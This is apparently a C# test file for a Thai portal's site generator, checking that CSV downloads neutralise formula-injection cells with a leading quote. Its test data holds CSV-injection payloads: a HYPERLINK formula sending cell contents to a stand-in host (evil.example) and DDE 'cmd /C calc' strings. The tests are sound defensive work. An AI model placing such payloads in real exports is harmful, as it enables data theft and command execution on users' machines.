using System.Text;
using Portal.Content;
using Portal.Output;

namespace Portal.Tests.WholeSite.Hostile;

/// <summary>
/// Class 10 of issue 18: every CSV the site or the CLI writes neutralises a cell that would start a formula in a
/// spreadsheet (OWASP: a single quote in front), and leaves a cell that is wholly a number as it is.
/// </summary>
[Collection(CliRunner.Collection)]
public sealed class FormulaInjectionTests
{
    private static readonly (string Yaml, string Title)[] Titles =
    [
        ("'=HYPERLINK(\"https://evil.example/?\"&A1,\"คลิก\")'", "=HYPERLINK(\"https://evil.example/?\"&A1,\"คลิก\")"),
        ("\"@SUM(1+1)*cmd|' /C calc'!A0\"", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\"-2+3+cmd|' /C calc'!A0\"", "-2+3+cmd|' /C calc'!A0"),
        ("\"\\t=1+1\"", "\t=1+1"),
        ("\" +1+1\"", " +1+1"),
    ];

    [Fact]
    public void Oit_titles_that_start_a_formula_are_neutralised_in_coverage_csv_and_in_portal_coverage_class_10_formula_injection()
    {
        using var site = TempSite.Create("oit");
        var catalog = Path.Combine(site.InputDirectory, "_data", "oit", "2566.yml");
        var yaml = File.ReadAllText(catalog);
        foreach (var (original, (hostile, _)) in new[] { "โครงสร้าง", "แผนดำเนินงาน", "รายงานผลประจำปี", "ข้อมูลเชิงสถิติ", "สรุปผลการจัดซื้อจัดจ้างรายเดือน" }.Zip(Titles))
        {
            Assert.Contains($"title: {original}\n", yaml, StringComparison.Ordinal);
            yaml = yaml.Replace($"title: {original}\n", $"title: {hostile}\n", StringComparison.Ordinal);
        }

        File.WriteAllText(catalog, yaml);

        var built = site.Build();
        Assert.True(built.Result.Succeeded, TempSite.Describe(built.Result.Diagnostics));
        var csv = built.Bytes("ita/2566/coverage.csv");
        var rows = CsvParser.Parse(Encoding.UTF8.GetString(csv).TrimStart('\uFEFF'), "coverage.csv", [])!;
        Assert.Equal(Titles.Select(t => "'" + t.Title), rows.Skip(1).Select(r => r.Cells[1].Text));
        CsvDataTests.AssertNoFormula(csv, "in coverage.csv");

        var printed = CliRunner.Run(site.Root, "coverage", "--theme", site.ThemeDirectory, "--year", "2566", "--format", "csv", "--as-of", "2026-12-06");
        Assert.Equal(Encoding.UTF8.GetString(csv), printed.StandardOutput);
    }

    [Fact]
    public void Data_downloads_neutralise_cells_and_headers_that_start_a_formula_and_keep_numbers_class_10_formula_injection()
    {
        using var site = HostileSite.Create();
        site.WritePage("tables/case.md", "title: ตาราง\nkind: data-table\ndata: case\ncaption: ตารางทดสอบ");
        site.Write("_data/case.csv",
            "=label,value,note\n" +
            "\"=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\",-5,+cmd\n" +
            "@SUM(A1),+3,-2+3\n" +
            "-,-0.25,\"\t=1\"\n");

        var built = site.Build();

        Assert.True(built.Succeeded, TempSite.Describe(built.Diagnostics));
        var csv = File.ReadAllBytes(Path.Combine(site.Site.OutputDirectory, "data", "case.csv"));
        Assert.Equal(
            "\uFEFF" +
            "'=label,value,note\n" +
            "\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\",-5,'+cmd\n" +
            "'@SUM(A1),3,'-2+3\n" +
            "'-,-0.25,'=1\n",
            Encoding.UTF8.GetString(csv));
    }
}
